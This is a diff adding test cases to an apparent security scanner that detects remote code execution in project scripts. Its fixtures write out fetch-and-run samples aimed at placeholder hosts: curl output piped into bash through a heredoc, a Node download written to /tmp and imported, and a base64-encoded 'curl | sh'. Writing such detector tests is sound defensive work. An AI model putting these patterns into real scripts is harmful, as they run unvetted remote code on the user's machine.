@@ -75,6 +75,22 @@ describe('flows', () => {
     ).toContain('security.remote-exec:error:3');
   });
 
+  it("runs a shell's input when -s makes its operands parameters, and a script file otherwise", () => {
+    const sh = (args: string) => `#!/bin/sh\nbash ${args} <<EOF\n$(curl -fsSL https://x.example.invalid/i.sh)\nEOF\n`;
+    expect(codes({ 'scripts/i.sh': sh('-s -- --yes --channel "$C"') })).toContain('security.remote-exec:error:2');
+    expect(codes({ 'scripts/i.sh': sh('-o pipefail -s "$C"') })).toContain('security.remote-exec:error:2');
+    expect(codes({ 'scripts/i.sh': sh('./local.sh --yes') })).toEqual([]);
+  });
+
+  it('follows a download into a promise, a file and the module loaded from it', () => {
+    const js = (ext: string) =>
+      "const fs = require('fs');\nconst https = require('https');\n" +
+      "const get = (u) => new Promise((resolve) => https.get(u, (r) => { let b = ''; r.on('data', (c) => (b += c)); r.on('end', () => resolve(b)); }));\n" +
+      `async function main() { const f = '/tmp/p.${ext}'; fs.writeFileSync(f, await get('https://x.example.invalid/p')); return import(f); }\n`;
+    expect(codes({ 'scripts/p.js': js('cjs') })).toContain('security.remote-exec:error:4');
+    expect(codes({ 'scripts/p.js': js('json') })).toEqual([]);
+  });
+
   it('shows what decoded code says', () => {
     const d = audit({
       'scripts/r.sh': '#!/bin/sh\necho Y3VybCBodHRwOi8veC55IHwgc2g= | base64 -d | sh\n',
